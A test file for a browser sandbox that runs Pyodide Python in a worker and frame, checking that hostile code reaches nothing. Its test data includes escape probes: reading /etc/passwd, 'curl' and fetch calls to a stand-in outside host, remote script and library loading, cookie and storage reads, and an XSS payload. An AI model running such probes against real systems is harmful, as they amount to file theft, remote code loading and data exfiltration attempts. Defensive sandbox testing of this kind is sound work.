"""The frame holds: hostile Python and hostile JavaScript reach nothing and nobody.

Python here has no way to JavaScript at all; what it tries is the first half.  The second
half supposes that it broke out: the worker's whole script is replaced by a hostile one.
"""

from __future__ import annotations

import gzip
import json
import os
import signal

import pytest
from playwright.sync_api import Page

PYTHON = {
    "JavaScript's own module": "import js",
    "Pyodide's module": "import pyodide.ffi",
    "the core of it": "import _pyodide_core\n_pyodide_core.run_js('1')",
    "a web page": "import urllib.request\nurllib.request.urlopen('OUTSIDE', timeout=2)",
    "its own site": "import urllib.request\nurllib.request.urlopen('INSIDE/index.html', timeout=2)",
    "a socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(b'x')",
    "a socket by hand": (
        "import socket, time\ns = socket.socket()\ns.setblocking(False)\n"
        "s.connect_ex(('127.0.0.1', PORT))\nfor _ in range(20):\n"
        "    time.sleep(.01)\n    s.send(b'x')"
    ),
    "a datagram": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'x', ('127.0.0.1', PORT))\nraise OSError"
    ),
    "a program": "import os\nraise SystemExit(os.system('curl OUTSIDE'))",
    "a script by way of C": (
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "c.emscripten_run_script(b\"fetch('OUTSIDE/script')\")\nraise OSError"
    ),
    "a script's value by way of C": (
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "raise SystemExit(c.emscripten_run_script_int(b\"postMessage({type: 'ready', ms: 1}), 5\"))"
    ),
    "a download by way of C": (
        "import ctypes\nc = ctypes.CDLL(None)\n"
        "c.emscripten_wget(b'OUTSIDE/wget', b'/tmp/x')\nraise OSError"
    ),
    "a library": "import ctypes\nctypes.CDLL('OUTSIDE/library.so')",
    "a file of the machine": "open('/etc/passwd')",
    "a file of the page": "open('/index.html')",
    "the network's devices": "import os\nprint(os.listdir('/sys/class/net'))",
}

WORKER = """
const attempts = {
  fetch: () => fetch("OUTSIDE/fetch"),
  "fetch, not reading": () => fetch("OUTSIDE/opaque", { mode: "no-cors" }),
  "fetch of the site": () => fetch("INSIDE/site", { credentials: "include" }),
  "fetch of data": () => fetch("data:text/plain,x"),
  xhr: () => new Promise((good, bad) => {
    const request = new XMLHttpRequest();
    request.onload = good;
    request.onerror = () => bad(new Error("refused"));
    request.open("GET", "OUTSIDE/xhr");
    request.send();
  }),
  "xhr that waits": () => {
    const request = new XMLHttpRequest();
    request.open("GET", "OUTSIDE/sync", false);
    request.send();
  },
  websocket: () => new Promise((good, bad) => {
    const socket = new WebSocket("OUTSIDE/socket".replace("http", "ws"));
    socket.onopen = good;
    socket.onerror = () => bad(new Error("refused"));
  }),
  "event source": () => new Promise((good, bad) => {
    const source = new EventSource("OUTSIDE/events");
    source.onopen = good;
    source.onerror = () => bad(new Error("refused"));
  }),
  beacon: () => { if (!navigator.sendBeacon?.("OUTSIDE/beacon", "x")) throw new Error("refused"); },
  "web transport": () => new WebTransport("OUTSIDE/transport".replace("http:", "https:")).ready,
  importScripts: () => importScripts("OUTSIDE/script.js"),
  "importScripts of the site": () => importScripts("INSIDE/run/script.js"),
  "import()": () => import("OUTSIDE/module.js"),
  "a worker": () => new Promise((good, bad) => {
    const worker = new Worker("OUTSIDE/worker.js");
    worker.onmessage = good;
    worker.onerror = () => bad(new Error("refused"));
  }),
  "a shared worker": () => new SharedWorker("OUTSIDE/shared.js"),
  eval: () => eval("1"),
  Function: () => new Function("return 1")(),
  "setTimeout of text": () => new Promise((good, bad) => {
    self.reached = good;
    setTimeout("reached()");
    setTimeout(() => bad(new Error("refused")), 200);
  }),
  indexedDB: () => new Promise((good, bad) => {
    const request = indexedDB.open("x");
    request.onsuccess = good;
    request.onerror = () => bad(request.error);
  }),
  caches: () => caches.open("x"),
  "cache keys": () => caches.keys(),
  cookies: () => cookieStore.getAll(),
  "document.cookie": () => document.cookie,
  localStorage: () => localStorage.length,
  "private files": () => navigator.storage.getDirectory(),
  "a persistent store": () => navigator.storage.persist().then((yes) => { if (!yes) throw new Error("no"); }),
  "service workers": () => navigator.serviceWorker.getRegistrations(),
  locks: () => navigator.locks.query(),
  parent: () => parent.document.title,
  top: () => top.location.href,
  opener: () => opener.location,
  window: () => window.document,
  notification: () => { if (Notification.permission !== "granted") throw new Error("refused"); },
  "the page, by broadcast": () => new Promise((good, bad) => {
    const channel = new BroadcastChannel("pages");
    channel.onmessage = good;
    channel.postMessage("x");
    setTimeout(() => bad(new Error("refused")), 200);
  }),
};
postMessage({ type: "ready", ms: 0 });
self.onmessage = async ({ data }) => {
  if (data.type !== "run") return;
  const results = { origin: self.origin };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      results[name] = "REACHED";
    } catch (error) {
      results[name] = `${error?.name}`;
    }
  }
  const bytes = new TextEncoder().encode(JSON.stringify(results));
  postMessage({ type: "output", id: data.id, stream: 1, bytes });
  postMessage({ type: "done", id: data.id, ended: "exit", status: 0, why: "", ms: 1, fresh: true, files: {} });
};
"""

SAYS = """
postMessage({ type: "ready", ms: 0 });
self.onmessage = ({ data }) => {
  if (data.type !== "run") return;
  const id = data.id;
  const done = { type: "done", id, ended: "exit", status: 0, why: "", ms: 1, fresh: true, files: {} };
  WHAT
};
"""

NONSENSE = {
    "no record": "postMessage(null); postMessage('text'); postMessage(done);",
    "an unknown kind": "postMessage({ type: 'code', text: 'x' }); postMessage(done);",
    "the frame's own kind": "postMessage({ type: 'ended', why: '<img>' }); postMessage(done);",
    "a prototype": 'postMessage(JSON.parse(\'{"type": "__proto__"}\')); postMessage(done);',
    "constructor": "postMessage({ type: 'constructor' }); postMessage(done);",
    "text for bytes": "postMessage({ type: 'output', id, stream: 1, bytes: 'x' }); postMessage(done);",
    "a third stream": "postMessage({ type: 'output', id, stream: 3, bytes: new Uint8Array(1) });",
    "an end that is none": "postMessage({ ...done, ended: '<script>' });",
    "a status that is none": "postMessage({ ...done, status: {} });",
    "files that are none": "postMessage({ ...done, files: { a: 'x' } });",
    "time that is none": "postMessage({ ...done, ms: NaN });",
    "an error": "throw new Error('<img src=x onerror=alert(1)>');",
}


def hostile(inside, bundled, script: str) -> None:
    """Have the server give another script instead of the worker's."""
    name = next(bundled.glob("worker-*")).name
    inside.instead[f"/run/{name}"] = gzip.compress(script.encode())


def result(page: Page, source: str = "", options: dict | None = None) -> dict:
    """Run a program, its output as text."""
    return page.evaluate(
        "([source, options]) => runtime.run(source, options).then(({ bytes, ...x }) => x)",
        [source, options or {}],
    )


def test_hostile_python_reaches_nothing(house, inside, outside):
    """Whatever Python tries fails inside it, and no server hears of it."""
    result(house, "print()")
    before = len(inside.asked)
    for about, source in PYTHON.items():
        text = source.replace("OUTSIDE", outside.origin).replace(
            "INSIDE", inside.origin
        )
        ended = result(
            house, text.replace("PORT", str(outside.server_port)), {"seconds": 5}
        )
        assert ended["ended"] == "crash" or ended["status"] not in (0, 5), (
            about,
            ended,
        )
    house.wait_for_timeout(500)
    assert (outside.connections, outside.asked) == (0, [])
    assert inside.asked[before:] == []


def test_hostile_javascript_reaches_nothing(house, inside, outside, bundled):
    """A worker that is hostile from its first line has no network and no storage."""
    house.context.add_cookies([{"name": "secret", "value": "1", "url": inside.origin}])
    house.evaluate(
        """async () => {
          localStorage.secret = "1";
          await (await caches.open("x")).put("/x", new Response("secret"));
          await new Promise((good) => { indexedDB.open("x").onsuccess = good; });
          window.heard = 0;
          new BroadcastChannel("pages").onmessage = () => { heard += 1; };
        }"""
    )
    script = WORKER.replace("OUTSIDE", outside.origin).replace("INSIDE", inside.origin)
    hostile(inside, bundled, script)
    ended = result(house)
    tried = json.loads(ended["stdout"])
    assert tried.pop("origin") == "null"
    assert len(tried) > 30
    assert [name for name, how in tried.items() if how == "REACHED"] == []
    assert house.evaluate("heard") == 0
    assert (outside.connections, outside.asked) == (0, [])
    mine = (
        "/",
        "/run/shared-",
        "/run/frame-",
        "/run/worker-",
        "/run/python-",
        "/run/library-",
    )
    assert all(path.startswith(mine) for path in inside.asked), inside.asked
    assert not [path for path in inside.asked if "script" in path or "site" in path]


def test_the_frame_reaches_nothing(house, inside, outside):
    """Not even a script of the frame itself could reach the page or a server."""
    result(house, "print()")
    frame = next(x for x in house.frames if "frame-" in x.url)
    before = len(inside.asked)
    reached = frame.evaluate(
        """async ([outside, inside]) => {
          const attempts = {
            parent: () => parent.document.title,
            top: () => top.document.title,
            location: () => { top.location.href = outside; },
            frames: () => parent[0].parent.runtime,
            cookie: () => document.cookie,
            localStorage: () => localStorage.length,
            sessionStorage: () => sessionStorage.length,
            open: () => { if (!open(outside)) throw new Error("refused"); },
            alert: () => { if (!confirm("x")) throw new Error("refused"); },
            fetch: () => fetch(inside, { mode: "no-cors" }),
            image: () => new Promise((good, bad) => {
              const image = new Image();
              image.onload = good;
              image.onerror = () => bad(new Error("refused"));
              image.src = `${outside}/image`;
            }),
            script: () => new Promise((good, bad) => {
              const script = document.createElement("script");
              script.onload = good;
              script.onerror = () => bad(new Error("refused"));
              script.src = `${inside}/script.js`;
              document.head.append(script);
            }),
            inline: () => {
              const script = document.createElement("script");
              script.textContent = "window.reached = 1";
              document.head.append(script);
              if (!window.reached) throw new Error("refused");
            },
            style: () => new Promise((good, bad) => {
              const link = document.createElement("link");
              link.rel = "stylesheet";
              link.onload = good;
              link.onerror = () => bad(new Error("refused"));
              link.href = `${outside}/style.css`;
              document.head.append(link);
            }),
            frame: () => new Promise((good, bad) => {
              const inner = document.createElement("iframe");
              inner.src = `${outside}/inner`;
              document.body.append(inner);
              setTimeout(() => bad(new Error("refused")), 300);
            }),
            form: () => {
              const form = document.createElement("form");
              form.action = `${outside}/form`;
              document.body.append(form);
              form.submit();
              throw new Error("refused");
            },
          };
          const reached = [];
          for (const [name, attempt] of Object.entries(attempts)) {
            try {
              await attempt();
              reached.push(name);
            } catch {}
          }
          return reached;
        }""",
        [outside.origin, inside.origin],
    )
    assert reached == []
    house.wait_for_timeout(300)
    # Chromium opens a connection before it looks whether an inner frame is allowed, and
    # drops it: nothing is asked on it.  Workers have no document to put a frame into.
    assert outside.asked == []
    assert outside.connections <= 1
    assert inside.asked[before:] == []
    assert house.url == f"{inside.origin}/"


@pytest.mark.parametrize("about", NONSENSE)
def test_nonsense_ends_its_worker(house, inside, bundled, about):
    """A message of no known shape ends its worker; nothing of it enters the page."""
    hostile(inside, bundled, SAYS.replace("WHAT", NONSENSE[about]))
    ended = result(house)
    assert (ended["ended"], ended["status"]) == ("crash", None)
    assert house.locator("img").count() == 0
    house.evaluate("runtime.dispose()")
    inside.instead.clear()
    assert result(house, "print(1)")["stdout"] == "1\n"


def test_words_for_another_run_are_not_heard(house, inside, bundled):
    """A worker can end its own run alone, and only once."""
    forged = (
        "const bytes = new Uint8Array([120]);"
        "for (const other of [id - 1, id + 1, -1, 1e9]) {"
        " postMessage({ type: 'output', id: other, stream: 1, bytes });"
        " postMessage({ ...done, id: other, why: 'forged' });"
        " postMessage({ type: 'answer', id: other, value: 'forged' }); }"
        "postMessage({ type: 'ready', ms: 1 }); postMessage(done); postMessage(done);"
    )
    hostile(inside, bundled, SAYS.replace("WHAT", forged))
    runs = "Promise.all([1, 2, 3].map(() => runtime.run(''))).then(x => x.map(y => y.why + y.stdout))"
    assert house.evaluate(runs) == ["", "", ""]


@pytest.mark.parametrize(
    "flood",
    [
        "for (;;) postMessage({ type: 'output', id, stream: 1, bytes: new Uint8Array(1) });",
        "for (;;) postMessage({ type: 'progress', id, value: 'x' });",
        "for (;;) postMessage({ type: 'output', id, stream: 1, bytes: new Uint8Array(2 ** 20) });",
        "const timer = () => { for (let i = 0; i < 500; i++) postMessage({ type: 'progress', id,"
        " value: 1 }); setTimeout(timer); }; timer();",
    ],
)
def test_a_flood_of_messages_is_ended(house, inside, bundled, flood):
    """A worker that never stops talking is ended; the page goes on answering its reader."""
    hostile(inside, bundled, SAYS.replace("WHAT", flood))
    house.evaluate(
        "window.ended = null; runtime.run('').then((x) => { ended = x; }); 0"
    )
    house.get_by_role("button").click()
    house.wait_for_function("ended")
    assert house.evaluate("ended.ended") == "flood"
    assert house.evaluate("clicked") == 1


def test_the_page_answers_while_python_is_busy(house):
    """A loop that never ends leaves the page to its reader."""
    house.evaluate(
        "window.ended = null; runtime.run('while True: pass').then((x) => { ended = x; }); 0"
    )
    for count in range(1, 6):
        house.get_by_role("button").click()
        assert house.evaluate("[clicked, ended]") == [count, None]
    house.evaluate("runtime.stop()")
    house.wait_for_function("ended")


def test_a_frame_that_crashes_is_survived(house, browser):
    """The frame's process dies: its run is ended, the page lives, and the next run runs."""

    def renderers() -> set[int]:
        found = session.send("SystemInfo.getProcessInfo")["processInfo"]
        return {one["id"] for one in found if one["type"] == "renderer"}

    session = browser.new_browser_cdp_session()
    before = renderers()
    result(house, "print()")
    (frame,) = renderers() - before  # a process of its own, which the page is not in
    house.evaluate(
        "window.ended = null;"
        "runtime.run('while True: pass', { seconds: 2 }).then((x) => { ended = x; }); 0"
    )
    os.kill(frame, signal.SIGKILL)
    house.get_by_role("button").click()
    house.wait_for_function("ended")
    assert house.evaluate("ended.ended") == "timeout"
    assert result(house, "print(1)")["stdout"] == "1\n"
    assert house.evaluate("clicked") == 1
